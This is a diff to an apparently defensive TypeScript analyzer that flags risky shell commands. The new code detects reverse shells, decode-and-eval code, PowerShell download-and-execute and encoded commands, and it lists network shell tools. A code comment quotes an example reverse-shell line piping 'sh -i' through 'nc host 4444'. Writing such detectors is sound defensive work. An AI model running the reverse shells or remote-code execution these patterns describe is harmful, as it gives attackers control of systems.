@@ -22,7 +22,8 @@ export const codeAnalyzer: Analyzer = ({ view, parseSql, line }) => {
   const cmd = view.cmd;
   const p = cmd.program;
   const facts: Fact[] = [];
-  const runsCode = (p !== null && CODE_RUNNERS.has(p)) || isInterpreter(p);
+  // A shell, an interpreter, or a program run by the path of a file the line downloaded.
+  const runsCode = (p !== null && CODE_RUNNERS.has(p)) || isInterpreter(p) || !!cmd.argv[0]?.sources?.length;
   if (runsCode) {
     const from = producers(cmd);
     const fetcher = from.find((c) => c.program && FETCHERS.has(c.program));
@@ -36,13 +37,43 @@ export const codeAnalyzer: Analyzer = ({ view, parseSql, line }) => {
       if (SHELL_API.test(code) && !shellCallsVisible(code)) facts.push({ id: 'code.shell', detail: SHELL_API.exec(code)?.[1], span: cmd.span });
       const call = DESTROY_CALL.exec(code);
       if (call) facts.push({ id: 'code.delete', detail: call[1], span: cmd.span });
+      if (SOCKET_API.test(code) && SPAWNS_SHELL.test(code)) facts.push({ id: 'exec.remote-code', detail: 'a socket', span: cmd.span });
+      if (RUNS_CODE.test(code) && DECODES.test(code)) facts.push({ id: 'exec.decoded-code', detail: DECODES.exec(code)?.[1], span: cmd.span });
+      if (/\b(iex|Invoke-Expression)\b/i.test(code) && /\b(iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString|WebClient)\b/i.test(code)) {
+        facts.push({ id: 'exec.remote-code', detail: 'Invoke-WebRequest', span: cmd.span });
+      }
       const sql = SQL_IN_CODE.exec(code);
       if (sql) facts.push(...sqlFacts(sql[0].replace(/["'`]$/, ''), cmd.span, parseSql).map((f) => ({ ...f, detail: f.detail ?? sql[0] })));
     }
   }
+  if (p === 'pwsh' || p === 'powershell') {
+    const enc = cmd.argv.slice(1).find((w) => /^-(e|ec|enc|encodedcommand)$/i.test(w.value));
+    if (enc) facts.push({ id: 'exec.decoded-code', detail: `${p} ${enc.value}`, span: cmd.span });
+  }
+  // A shell reading commands from a network peer, or answering one: `cat f | sh -i 2>&1 | nc host 4444 > f`.
+  if (p !== null && SHELLS.has(p) && readsCommands(cmd)) {
+    const peers = [...producers(cmd), ...line.commands.filter((c) => c.stdin?.kind === 'pipe' && c.stdin.from.includes(cmd))];
+    const net = peers.find((c) => c.program && NETWORK_PEERS.has(c.program));
+    if (net) facts.push({ id: 'exec.remote-code', detail: net.program ?? undefined, span: cmd.span });
+  }
   if (isForkBomb(cmd, line.source)) facts.push({ id: 'system.fork-bomb', detail: p ?? undefined, span: cmd.span });
   return facts;
 };
+
+/** Code that opens a network connection and hands it a shell: a reverse shell. */
+const SOCKET_API = /(socket\.socket|socket\.create_connection|fsockopen|TCPSocket|IO::Socket|socket\s*\(\s*S\b|net\.connect|net\.Socket|new\s+Socket|\/dev\/tcp\/)/;
+const SPAWNS_SHELL = /(\/bin\/(ba|z|da)?sh\b|\bsh\s+-i\b|cmd\.exe|pty\.spawn|dup2|\bexec\b|subprocess|spawn\s*\(|\bsystem\s*\()/;
+/** Code that runs what it decodes: `eval(Buffer.from(…, 'base64'))`, `exec(b64decode(…))`. */
+const RUNS_CODE = /\b(eval|exec|Function|compile|instance_eval)\s*\(/;
+const DECODES = /(b64decode|base64|atob\s*\(|unpack\s*\(\s*['"]m|decode64|fromCharCode|unhexlify|codecs\.decode)/;
+const NETWORK_PEERS = new Set(['nc', 'ncat', 'netcat', 'socat', 'telnet', 'openssl', 'cryptcat']);
+
+/** A shell that runs commands from its input (interactive, or no -c and no script). */
+function readsCommands(cmd: Command): boolean {
+  const args = cmd.argv.slice(1);
+  if (args.some((w) => /^-[a-z]*i[a-z]*$/.test(w.value))) return true;
+  return !args.some((w) => /^-[a-z]*c[a-z]*$/.test(w.value) || !w.value.startsWith('-'));
+}
 
 const EXEC_NAME = /(?:os\.system|os\.popen|subprocess\.\w+|execSync|execFileSync|exec|spawnSync|spawn|system|popen|shell_exec|passthru|proc_open|Open3\.\w+|IO\.popen)\s*\(/g;
 const LITERAL_ARG = /^\s*(['"])((?:\\.|(?!\1).)*)\1\s*[),]/;
